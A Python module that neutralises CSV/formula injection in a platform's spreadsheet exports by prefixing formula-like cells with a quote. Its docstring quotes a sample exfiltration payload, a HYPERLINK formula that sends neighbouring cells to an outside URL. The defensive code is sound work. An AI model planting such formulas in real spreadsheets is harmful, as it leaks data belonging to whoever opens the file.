"""Spreadsheets the platform hands out carry text, never formulas (CSV/formula injection).

Much of what the exports contain was typed by someone else: a voter's opinion
from the public form, a unit's reply, a deputy's notes. Text that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what Excel (or another
spreadsheet, or the same sheet saved as CSV and opened again) may run as a
formula: ``=HYPERLINK("http://…?"&A1)`` sends the neighbouring cells away on a
click. Every export goes through here and such a cell gets a leading ``'``, the
mark spreadsheets themselves use for "text, not a formula". Numbers, dates and
other text are left as they are.

- ``SafeXLSX``: the .xlsx format of every admin export (django-import-export);
  its own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` only drops one leading
  ``=`` and turns every cell, numbers too, into text.
- ``xlsx(dataset)``: the same for a workbook built by hand (tablib).
"""

from __future__ import annotations

import tablib
from import_export.formats.base_formats import XLSX

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A cell's value as a spreadsheet may safely open it: text starting like a formula gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralised(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of ``dataset`` with every cell (and header) neutralised."""
    safe = tablib.Dataset(title=dataset.title)
    if dataset.headers:
        safe.headers = [neutralise(header) for header in dataset.headers]
    for row in dataset:
        safe.append([neutralise(value) for value in row])
    return safe


def xlsx(dataset: tablib.Dataset) -> bytes:
    """``dataset`` as an .xlsx workbook, neutralised."""
    return neutralised(dataset).export("xlsx")


class SafeXLSX(XLSX):
    """django-import-export's .xlsx format, neutralising every cell it writes."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(neutralised(dataset), **kwargs)
